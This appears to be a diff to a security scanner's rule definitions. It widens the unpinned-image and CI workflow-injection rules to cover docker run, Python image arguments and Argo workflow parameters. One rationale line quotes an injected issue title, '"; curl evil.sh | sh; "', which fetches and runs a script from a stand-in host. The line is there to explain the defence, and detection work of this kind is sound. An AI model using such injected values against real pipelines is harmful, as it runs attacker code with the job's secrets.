@@ -29,8 +29,10 @@ UNPINNED_BASE_IMAGE = _rule(
     "Image without a fixed tag or digest",
     Severity.MEDIUM,
     ("PS7", "PS2"),
-    summary="A `FROM` line, a compose service's `image:` or a Kubernetes container's `image:` "
-    "names an image with no tag or the `latest` tag, and no `@sha256:` digest (or a Kustomize "
+    summary="A `FROM` line, a compose service's `image:`, a Kubernetes container's `image:`, "
+    "the image of a `docker run` command or an image given by keyword in Python code "
+    "(`image=`, `container_uri=`) names an image with no tag or the `latest` tag, "
+    "and no `@sha256:` digest (or a Kustomize "
     "`images:` entry retags one to `newTag: latest`), so each build or pull may get a "
     "different image.",
     rationale="A moving base image changes the CUDA, Python and system libraries under a model "
@@ -460,7 +462,9 @@ WORKFLOW_INJECTION = _rule(
     summary="A GitHub Actions `run:` script (or an `actions/github-script` script) contains a "
     "`${{ }}` expression of data that whoever opens an issue, a pull request, a comment or a "
     "branch, or fills in a dispatch form, chooses: `github.event.issue.title`, "
-    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...",
+    "`github.event.pull_request.body`, `github.head_ref`, `github.event.inputs.*`...; or an "
+    "Argo workflow pastes a submission parameter (`{{workflow.parameters.*}}`) into a "
+    "shell's `-c` string or a script template's `source`.",
     rationale="The expression is pasted into the script before the shell runs it, so a title "
     'such as `"; curl evil.sh | sh; "` runs on the runner, with the job\'s token and secrets '
     "(on self-hosted GPU runners, inside the training network).",
